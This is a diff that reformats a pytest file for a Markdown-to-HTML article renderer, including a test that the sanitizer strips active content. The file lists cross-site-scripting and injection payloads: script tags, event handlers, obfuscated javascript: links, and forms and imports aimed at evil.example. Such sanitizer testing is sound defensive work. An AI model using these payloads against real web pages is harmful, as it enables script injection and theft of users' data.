@@ -12,7 +12,11 @@ LINKS = LinkMap(
     articles={"a/one.md": "/articles/one", "b/two.md": "/policies/two"},
     collections={"": "/collections/all", "a": "/collections/a", "b": "/collections/b"},
     files={"a/img/x.png": "/files/0123456789abcdef/x.png"},
-    addresses={"/articles/one": "a/one.md", "/articles/old": "a/one.md", "/policies/two": "b/two.md"},
+    addresses={
+        "/articles/one": "a/one.md",
+        "/articles/old": "a/one.md",
+        "/policies/two": "b/two.md",
+    },
 )
 
 
@@ -25,7 +29,9 @@ def reported(body: str) -> list[tuple[str, int]]:
 
 
 def test_sections_carry_heading_anchor_and_text() -> None:
-    found = render("Intro *text*.\n\n## First step\n\nDo `this`.\n\n- a\n- b\n\n### Deeper {#own}\n\nMore.")
+    found = render(
+        "Intro *text*.\n\n## First step\n\nDo `this`.\n\n- a\n- b\n\n### Deeper {#own}\n\nMore."
+    )
     assert found.sections == (
         Section("", "", 1, "Intro text."),
         Section("h-first-step", "First step", 2, "Do this.\na\nb"),
@@ -53,7 +59,7 @@ def test_the_page_keeps_its_only_h1() -> None:
         ("https://example.com/x?y=1", "https://example.com/x?y=1"),
         ("tel:+18005550100", "tel:+18005550100"),
     ],
-)  # fmt: skip
+)
 def test_links_lead_to_pages(link: str, url: str) -> None:
     tree = html.fragment_fromstring(render(f"[x](<{link}>)").html, create_parent=True)
     assert tree.find(".//a").get("href") == url
@@ -90,30 +96,68 @@ def test_harmless_text_has_no_problems() -> None:
     )
     found = render(body)
     assert found.problems == ()
-    for part in ("table-scroll", "align-right", "admonition warning", "<dl>", 'id="fn:1"', 'loading="lazy"'):
+    for part in (
+        "table-scroll",
+        "align-right",
+        "admonition warning",
+        "<dl>",
+        'id="fn:1"',
+        'loading="lazy"',
+    ):
         assert part in found.html
 
 
 HOSTILE = (
-    "<script>x()</script>", "<img src=x onerror=x()>", "<svg onload=x()><script>x()</script></svg>",
-    "<a href='java&#x0A;script:x()'>a</a>", "[a](JaVaScRiPt:x())", "[a](\x01javascript:x())",
-    "<iframe srcdoc='<script>x()</script>'></iframe>", "<math><mtext><img src=x onerror=x()></mtext></math>",
-    "<style>@import 'https://evil.example/'</style>", "<p style='background:url(https://evil.example/)'>p</p>",
-    "<form action=https://evil.example><input name=a></form>", "<base href=https://evil.example/>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<object data=https://evil.example></object>",
-    "<details ontoggle=x() open><summary>s</summary></details>", "<img name=cookie src=img/x.png>",
-    "![a](javascript:x())", "<noscript><p title='</noscript><img src=x onerror=x()>'>", "[a](vbscript:x)",
-    "<a href=//evil.example/>a</a>", "<video src=https://evil.example/v.mp4 autoplay></video>",
-    "{: onclick=x() }", "## h {: onmouseover=x() }", "<template><img src=x onerror=x()></template>",
-)  # fmt: skip
+    "<script>x()</script>",
+    "<img src=x onerror=x()>",
+    "<svg onload=x()><script>x()</script></svg>",
+    "<a href='java&#x0A;script:x()'>a</a>",
+    "[a](JaVaScRiPt:x())",
+    "[a](\x01javascript:x())",
+    "<iframe srcdoc='<script>x()</script>'></iframe>",
+    "<math><mtext><img src=x onerror=x()></mtext></math>",
+    "<style>@import 'https://evil.example/'</style>",
+    "<p style='background:url(https://evil.example/)'>p</p>",
+    "<form action=https://evil.example><input name=a></form>",
+    "<base href=https://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<object data=https://evil.example></object>",
+    "<details ontoggle=x() open><summary>s</summary></details>",
+    "<img name=cookie src=img/x.png>",
+    "![a](javascript:x())",
+    "<noscript><p title='</noscript><img src=x onerror=x()>'>",
+    "[a](vbscript:x)",
+    "<a href=//evil.example/>a</a>",
+    "<video src=https://evil.example/v.mp4 autoplay></video>",
+    "{: onclick=x() }",
+    "## h {: onmouseover=x() }",
+    "<template><img src=x onerror=x()></template>",
+)
 
 
 @pytest.mark.parametrize("body", HOSTILE)
 def test_nothing_active_survives(body: str) -> None:
     tree = html.fragment_fromstring(render(f"before\n\n{body}\n\nafter").html, create_parent=True)
     for element in tree.iter():
-        assert element.tag not in {"script", "style", "iframe", "svg", "math", "form", "input", "base", "meta", "object", "video", "template"}  # fmt: skip
-        assert not {name for name in element.attrib if name.startswith("on") or name in ("style", "name", "srcdoc")}
+        assert element.tag not in {
+            "script",
+            "style",
+            "iframe",
+            "svg",
+            "math",
+            "form",
+            "input",
+            "base",
+            "meta",
+            "object",
+            "video",
+            "template",
+        }
+        assert not {
+            name
+            for name in element.attrib
+            if name.startswith("on") or name in ("style", "name", "srcdoc")
+        }
         href = (element.get("href") or "").strip().lower()
         assert not href.startswith(("javascript", "vbscript", "data", "//"))
         assert (element.get("src") or "/files/").startswith("/files/")
@@ -130,7 +174,9 @@ def test_a_stalling_text_is_stopped_and_the_others_go_on() -> None:
     assert isinstance(results["good.md"], RenderedArticle)
 
 
-@pytest.mark.parametrize("body", ["- " * 3_000, "> " * 3_000 + "x", "<div>" * 3_000, "- - - - " * 800])
+@pytest.mark.parametrize(
+    "body", ["- " * 3_000, "> " * 3_000 + "x", "<div>" * 3_000, "- - - - " * 800]
+)
 def test_deep_nesting_never_raises(body: str) -> None:
     (result,) = render_articles([RenderTask("deep.md", body, 1, "deep")], LinkMap(), time_limit=5.0)
     assert isinstance(result[1], RenderedArticle | Problem)
